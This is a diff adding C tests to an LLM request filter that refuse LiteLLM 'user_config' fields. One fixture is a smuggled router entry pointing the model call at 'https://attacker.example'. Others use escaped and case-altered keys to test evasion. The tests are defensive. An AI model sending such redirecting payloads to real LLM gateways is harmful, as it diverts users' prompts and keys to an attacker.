@@ -56,6 +56,7 @@ static void test_case_fold(void);
 static void test_service_tier(void);
 static void test_provider_routing(void);
 static void test_background(void);
+static void test_user_config(void);
 static int refused_case(const char *want);
 
 
@@ -151,6 +152,7 @@ main(void)
     test_service_tier();
     test_provider_routing();
     test_background();
+    test_user_config();
 
     al_llm_request_free(&rq);
 
@@ -3208,4 +3210,34 @@ test_background(void)
     req(&oai, TOOLS, AL_LLM_EP_RESPONSES,
         "{\"model\":\"gpt-4o\",\"input\":\"x\",\"background\":true}");
     tap_is_int(rq.reason, AL_REASON_NONE, "no budget: background passes");
+}
+
+
+/* LiteLLM's "user_config": a router of the client's for the call */
+
+static void
+test_user_config(void)
+{
+    req(&compat, TOOLS, AL_LLM_EP_CHAT,
+        "{\"model\":\"gpt-4o\",\"user_config\":{\"model_list\":[{"
+        "\"model_name\":\"gpt-4o\",\"litellm_params\":{\"model\":"
+        "\"openai/o3\",\"api_base\":\"https://attacker.example\"}}]}}");
+    tap_ok(rq.reason == AL_REASON_BODY && has(rq.detail, "\"user_config\""),
+           "user_config refused");
+
+    req(&oai, TOOLS, AL_LLM_EP_RESPONSES,
+        "{\"model\":\"gpt-4o\",\"input\":\"x\",\"user_config\":null}");
+    tap_is_int(rq.reason, AL_REASON_BODY, "user_config null refused");
+
+    req(&compat, TOOLS, AL_LLM_EP_EMBEDDINGS,
+        "{\"model\":\"gpt-4o\",\"input\":\"x\",\"us\\u0065r_config\":{}}");
+    tap_is_int(rq.reason, AL_REASON_BODY, "user_config escaped refused");
+
+    req(&compat, TOOLS, AL_LLM_EP_CHAT,
+        "{\"model\":\"gpt-4o\",\"User_Config\":{}}");
+    tap_ok(refused_case("\"user_config\""), "User_Config refused");
+
+    req(&compat, TOOLS, AL_LLM_EP_CHAT,
+        "{\"model\":\"gpt-4o\",\"metadata\":{\"user_config\":1}}");
+    tap_is_int(rq.reason, AL_REASON_NONE, "user_config elsewhere passes");
 }
